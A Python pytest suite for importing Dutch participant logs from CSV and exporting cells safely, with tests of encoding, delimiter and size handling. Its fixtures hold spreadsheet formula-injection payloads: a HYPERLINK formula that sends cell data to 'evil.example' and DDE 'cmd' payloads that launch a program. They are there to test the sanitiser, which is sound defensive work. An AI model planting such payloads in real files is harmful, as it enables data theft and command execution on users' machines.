"""A log comes in as it was written, or not at all; what goes out is text and never a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toc.domain.errors import DomainError
from toc.domain.exchange import (
    MOST_BYTES,
    MOST_COLUMNS,
    MOST_IN_CELL,
    MOST_ROWS,
    Note,
    Table,
    decode,
    restored,
    safe_cell,
    table,
)

# Samples of logs as they arrive, typed in from the collection "imports" (case numbers 01, 03, 04 and 06).
DUTCH_LOG = (
    "sep=;\r\n"
    "Deelnemernr;Naam begeleider;Instroomdatum;Uitstroomdatum;ZRM Financiën (1-5);Netto inkomen p/m;"
    "Aandeel schuld;Werk na 6 mnd;Opmerking\r\n"
    "B-001;Zoë van 't Hoff;01-02-2025;31-07-2025;2;€ 1.234,50;37,5%;ja;"
    '"Gaat goed; maar ""stopt"" soms"\r\n'
    "B-002;José Núñez;3-2-2025;;3;1.050;12,0%;nee;\r\n"
    'B-003;Çağla Y\u0131lmaz;29-02-2024;01-13-2025;99;n.v.t.;-;weet niet;"meerdere\nregels"\r\n'
    "B-004;Anaïs D\u2019Hondt;2025-02-05;15/08/25;5;985,00;0,5;Ja;45689 is serial\r\n"
    "B-005;Łukasz \u2013 Wójcik;45693;;4;1.234.567,89;1,0;J;punt als duizendtal\r\n"
    "B-006;  ;05-02-25;;;1,234.50;;;US-notatie in NL-bestand\r\n"
)
KOBO_HEADER = (
    '"start";"deelnemer";"t0/datum";"t0/zrm_fin";"t0/hulp";"t0/hulp/schuld";"t0/hulp/zorg";"_id";"_uuid"'
)
KOBO = (
    KOBO_HEADER + "\n"
    '"2025-03-01T09:50:00.000+01:00";"B-001";"2025-03-01";"2";"schuld zorg";"1";"1";"101";"9a1f-01"\n'
    '"2025-03-01T10:00:00.000+01:00";"B-002";"2025-03-02";"4";"werk";"0";"0";"102";"9a1f-02"\n'
    '"2025-03-01T10:20:00.000+01:00";"=B-003";"2025-03-03";"";"schuld weg";"1";"0";"0";"103";"9a1f-03"\n'
)
MALICIOUS = (
    "deelnemer,datum,waarde,opmerking,=1+1 kolom,opmerking\n"
    'M-001,01-03-2025,"7,5","=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")",,x\n'
    "M-002,01-03-2025,\"7,5\",=cmd|' /C calc'!A0,,x\n"
    'M-025,01-03-2025,"7,5","=1+1\n=2+2",,x\n'
    "M-900,01-03-2025,1\n"
    "M-901,01-03-2025,1,a,b,c,d,e\n"
)


def refusal(error: pytest.ExceptionInfo[DomainError]) -> tuple[str, dict[str, object]]:
    return error.value.key, error.value.params


def rows_of(found: Table) -> list[tuple[str, ...]]:
    return [row.cells for row in found.rows]


# --- Bytes --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_the_encoding_is_found(encoding: str) -> None:
    found = decode(DUTCH_LOG.encode(encoding))
    assert (found.text, found.encoding, found.notes) == (DUTCH_LOG, encoding, ())


def test_windows_1252_is_read_and_said() -> None:
    # Sample 01b: the same log; the letters that Windows-1252 has not are written without their accents.
    text = DUTCH_LOG.translate(str.maketrans("ğ\u0131Ł", "giL"))
    found = decode(text.encode("cp1252"))
    assert (found.text, found.encoding, found.notes) == (text, "cp1252", (Note("file.read_as_cp1252"),))
    for words in ("Zoë van 't Hoff", "€ 1.234,50", "D\u2019Hondt"):
        assert words in found.text
    assert "Ã«" not in found.text
    assert "\ufffd" not in found.text


@pytest.mark.parametrize(
    ("content", "key"),
    [
        (b"", "file.empty"),
        (b"\xef\xbb\xbf \r\n", "file.empty"),
        (b"a;b\x00c", "file.nul"),
        ("a;b".encode("utf-16-le"), "file.nul"),  # without byte order mark
        (b"\xef\xbb\xbfZo\xeb", "file.encoding_unknown"),  # says UTF-8 and is not
        (b"Zo\xeb \x81", "file.encoding_unknown"),  # neither UTF-8 nor Windows-1252
        (b"\xff\xfea", "file.encoding_unknown"),  # half a character
        ("a;b".encode("utf-32"), "file.encoding_unknown"),
        (b"PK\x03\x04\x14\x00", "file.is_spreadsheet"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1", "file.is_spreadsheet"),
        (b"%PDF-1.7", "file.is_pdf"),
        (b"a" * (MOST_BYTES + 1), "file.too_large"),
    ],
    ids=range(12),
)
def test_a_file_that_cannot_be_read_is_refused(content: bytes, key: str) -> None:
    with pytest.raises(DomainError) as refused:
        decode(content)
    assert refused.value.key == key


@given(content=st.binary(max_size=200))
def test_decoding_never_replaces_a_character(content: bytes) -> None:
    try:
        found = decode(content)
    except DomainError:
        return
    again = found.text.encode(found.encoding)
    # UTF-16 is written back in this machine's order of bytes.
    assert again == content or found.encoding == "utf-16"


# --- Tables -------------------------------------------------------------------------------------------------


def test_the_dutch_sample_as_a_table() -> None:
    found = table(DUTCH_LOG)
    assert found.headers[0] == "Deelnemernr"
    assert found.delimiter == ";"
    assert found.notes == (Note("table.sep_line", {"delimiter": ";"}),)
    assert len(found.rows) == 6
    assert found.ragged == ()
    assert found.rows[0].cells[-1] == 'Gaat goed; maar "stopt" soms'
    assert found.rows[2].cells[-1] == "meerdere\nregels"
    # The third row takes two lines.
    assert [(row.number, row.line) for row in found.rows] == [(1, 3), (2, 4), (3, 5), (4, 7), (5, 8), (6, 9)]


def test_a_row_with_an_extra_cell_stands_apart_with_its_number() -> None:
    found = table(KOBO)
    assert found.delimiter == ";"
    assert [row.number for row in found.rows] == [1, 2]
    (ragged,) = found.ragged
    assert (ragged.number, ragged.line, len(ragged.cells), ragged.cells[1]) == (3, 4, 10, "=B-003")


def test_the_malicious_sample_as_a_table() -> None:
    found = table(MALICIOUS)
    assert found.headers == ("deelnemer", "datum", "waarde", "opmerking", "=1+1 kolom", "opmerking (2)")
    assert found.notes == (Note("table.header_repeated", {"column": "opmerking"}),)
    assert [(row.number, row.line, len(row.cells)) for row in found.ragged] == [(4, 6, 3), (5, 7, 8)]
    assert found.rows[0].cells[3] == '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    assert found.rows[2].cells[3] == "=1+1\n=2+2"


def test_a_quote_that_is_never_closed_refuses_the_file() -> None:
    with pytest.raises(DomainError) as refused:
        table(MALICIOUS + '"M-902,01-03-2025,1,onafgesloten\n')
    assert refusal(refused) == ("table.quote_unclosed", {"line": 8})
    with pytest.raises(DomainError) as refused:
        table('"datum;waarde\n1;2\n')
    assert refusal(refused) == ("table.quote_unclosed", {"line": 1})


def test_text_after_a_closing_quote_refuses_the_file() -> None:
    with pytest.raises(DomainError) as refused:
        table('datum;waarde\n"1"x;2\n')
    assert refusal(refused) == ("table.quote_misplaced", {"line": 2})


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_the_delimiter_is_found(delimiter: str, end: str) -> None:
    lines = [("datum", "waarde", "x"), ("1-1-2025", '"1,5"', "")]
    found = table(end.join(delimiter.join(cells) for cells in lines))
    assert (found.delimiter, rows_of(found)) == (delimiter, [("1-1-2025", "1,5", "")])


def test_the_header_tells_the_delimiter_and_not_the_most_frequent_sign() -> None:
    found = table("datum;waarde\n1-1-2025;1,5\n2-1-2025;2,5\n3-1-2025;3,5\n")
    assert found.delimiter == ";"
    found = table("naam, kort;datum;waarde\na;1-1-2025;1\nb;2-1-2025;2\n")
    assert found.headers == ("naam, kort", "datum", "waarde")


def test_a_delimiter_that_the_file_does_not_tell_is_asked() -> None:
    both = "a,b;c\n1,2;3\n"
    for text in (both, "datum\n1\n", " \n"):
        with pytest.raises(DomainError) as refused:
            table(text)
        assert refused.value.key == "table.delimiter_unknown"
    assert table(both, ";").headers == ("a,b", "c")
    assert table(both, ",").headers == ("a", "b;c")


def test_what_the_user_says_goes_before_what_the_file_says() -> None:
    assert table("sep=;\na,b;c\n1,2;3\n", ",").headers == ("a", "b;c")
    assert table("SEP=\t\na\tb\n1\t2\n").delimiter == "\t"
    for text, delimiter in (("sep=|\na|b\n1|2\n", None), ("a|b\n1|2\n", "|")):
        with pytest.raises(DomainError) as refused:
            table(text, delimiter)
        assert refused.value.key == "table.delimiter_unknown"


def test_empty_lines_are_passed_over_and_empty_rows_are_said() -> None:
    found = table("\na;b\n\n1;2\n ; \n;;\n3;4\n\n")
    assert [(row.number, row.line) for row in found.rows] == [(1, 4), (4, 7)]
    assert found.notes == (Note("table.rows_empty", {"count": 2}),)
    assert found.ragged == ()


def test_nameless_columns_stay_nameless() -> None:
    assert table("a;;;a;a\n1;2;3;4;5\n").headers == ("a", "", "", "a (2)", "a (3)")


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("a;b\n", "table.empty"),
        ("a;b\n;\n", "table.empty"),
        ("a;b\n1;\0\n", "file.nul"),
        (";".join("x" * (MOST_COLUMNS + 1)) + "\n1\n", "table.too_many_columns"),
        ("a;b\n" + "1;2\n" * (MOST_ROWS + 1), "table.too_many_rows"),
        (f"a;b\n1;{'x' * (MOST_IN_CELL + 1)}\n", "table.cell_too_long"),
        (f"a;b\n1;{'x' * 140_000}\n", "table.cell_too_long"),  # beyond what the csv module reads
    ],
    ids=range(7),
)
def test_a_table_that_is_none_is_refused(text: str, key: str) -> None:
    with pytest.raises(DomainError) as refused:
        table(text)
    assert refused.value.key == key


def test_the_largest_table_and_cell_are_read() -> None:
    assert len(table("a;b\n" + "1;2\n" * MOST_ROWS).rows) == MOST_ROWS
    assert len(table(f"a;b\n1;{'x' * MOST_IN_CELL}\n").rows[0].cells[1]) == MOST_IN_CELL


def test_a_table_without_delimiter_of_its_own_can_be_empty() -> None:
    with pytest.raises(DomainError) as refused:
        table("\n\n", ";")
    assert refused.value.key == "table.empty"


words = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=8)


@given(
    rows=st.lists(st.lists(words, min_size=3, max_size=3), min_size=1, max_size=6),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
def test_a_table_that_was_written_is_read_back(rows: list[list[str]], delimiter: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows([["a", "b", "c"], *rows])
    filled = [tuple(row) for row in rows if any(cell.strip() for cell in row)]
    if filled:
        found = table(decode(written.getvalue().encode()).text, delimiter)
        assert rows_of(found) == filled
        assert found.ragged == ()


# --- Cells --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+31612345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\rx",
        "\tx",
        "\nx",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+1",
        "\uff20SUM",
        "\u22121",
        "  =1",
        '"=1+1"',
        "'=1+1",
        "\u201c=1",
        "\ufeff=1",
        "\u200b\u00a0=1",
        "=1+1\n=2+2",
        "-",
        "-1-1",
        "-1,2,3",
    ],
)
def test_a_cell_that_could_be_a_formula_gets_one_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restored(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["", " ", "a=b", "7,5", "-7,5", "-12", "-0.5", "Zoë van 't Hoff", "'t Hoff", "''", "1=1", "(=1)"]
)
def test_any_other_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
    assert restored(text) == text


cells = st.text(
    st.one_of(st.sampled_from("'\"=+-@ \t\r\n1.,\uff1d\u2212\ufeff"), st.characters()), max_size=8
)


@given(text=cells)
def test_making_a_cell_safe_can_be_undone_exactly(text: str) -> None:
    safe = safe_cell(text)
    assert restored(safe) == text
    assert safe in {text, "'" + text}
    assert not safe.startswith(("=", "+", "@", "\t", "\r", "\uff1d"))
    assert not safe.startswith("-") or safe.lstrip("-").replace(",", ".", 1).replace(".", "", 1).isdecimal()
